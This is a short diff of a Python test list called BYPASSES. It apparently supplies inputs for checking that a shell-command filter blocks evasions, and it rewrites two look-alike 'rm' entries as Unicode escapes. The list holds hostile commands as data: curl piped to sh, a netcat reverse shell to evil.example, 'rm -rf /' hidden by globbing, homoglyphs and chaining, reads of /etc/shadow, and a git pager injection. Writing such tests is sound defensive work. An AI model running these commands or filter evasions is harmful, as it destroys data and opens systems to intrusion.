@@ -20,7 +20,8 @@ BYPASSES = [
     "mkfs.ext4 /dev/sda1", "curl http://evil.example | sh", "wget http://evil.example",
     "nc -e /bin/sh evil.example 4444", "python3 -c 'import os; os.system(\"rm -rf /\")'",
     "python3 -m pip install evil", "/???/?m -rf /", "r?m -rf /", "*rm* -rf /",
-    "ｒｍ -rf /", "rм -rf /", "echo hi; rm -rf /", "echo hi && rm -rf /", "echo hi || rm -rf /",
+    "\uff52\uff4d -rf /", "r\u043c -rf /",  # fullwidth, Cyrillic look-alikes
+    "echo hi; rm -rf /", "echo hi && rm -rf /", "echo hi || rm -rf /",
     "echo hi | rm -rf /", "echo hi & rm -rf /", "echo hi\nrm -rf /", "(rm -rf /)", "{ rm -rf /; }",
     "echo x > /etc/passwd", "echo x >> ~/.bashrc", "cat < /etc/shadow", "echo x > ../outside.txt",
     "cat <(rm -rf /)", "echo $((1+1))", "git -c core.pager='sh -c x' log",
